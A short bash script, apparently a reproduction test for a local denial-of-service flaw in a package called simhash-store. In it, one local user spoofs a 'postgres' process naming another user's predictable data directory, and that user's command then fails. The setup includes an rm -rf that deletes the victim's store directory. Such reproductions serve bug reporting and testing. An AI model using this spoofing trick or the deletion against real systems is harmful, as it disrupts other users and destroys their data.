#!/bin/bash
# Another local user (h15mallory) runs a process named "postgres" whose command line names the
# victim's (h15alice) data directory, which is predictable (~/.local/share/simhash-store/pgdata).
# The server package, making a new data directory, kills every such "postgres" it finds; it may
# not kill hers (another user's), and the victim's first command fails. Run as root.
set -u
PGDATA=/home/h15alice/.local/share/simhash-store/pgdata
su - h15alice -c "rm -rf ~/.local/share/simhash-store"
su h15mallory -c "/usr/bin/python3 -c \"import ctypes,time; ctypes.CDLL(None).prctl(15, b'postgres', 0, 0, 0); time.sleep(120)\" -D $PGDATA & echo \$! > /tmp/h15-fake-pid"
sleep 1
ps -o pid,user,comm,args -p "$(cat /tmp/h15-fake-pid)"
su - h15alice -c "cd ~; echo 'the quick brown fox jumps over the lazy dog again and again' > a.txt; timeout 120 ~/venv/bin/simhash-store add a.txt; echo exit \$?"
kill "$(cat /tmp/h15-fake-pid)"; rm -f /tmp/h15-fake-pid
